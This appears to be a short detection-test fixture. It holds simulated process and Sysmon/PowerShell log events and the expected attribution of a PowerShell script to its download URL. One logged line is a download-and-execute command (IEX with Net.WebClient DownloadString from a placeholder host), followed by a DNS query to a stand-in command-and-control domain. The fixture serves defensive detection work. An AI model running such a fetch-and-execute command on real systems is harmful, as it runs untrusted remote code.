PowerShell takes its script from an address: the address

process explorer 50   C:\Windows\explorer.exe
process ps       200  C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe

08:00:10.000 sysmon1 ps < explorer cmd="powershell.exe -nop"
08:00:11.000 powershell4104 ps text="IEX (New-Object Net.WebClient).DownloadString('https://scripts.example/a.ps1')"
! 08:00:20.000 sysmon22 ps query=c2.example

path script_download
origin download url=https://scripts.example/a.ps1
unblamed powershell.exe
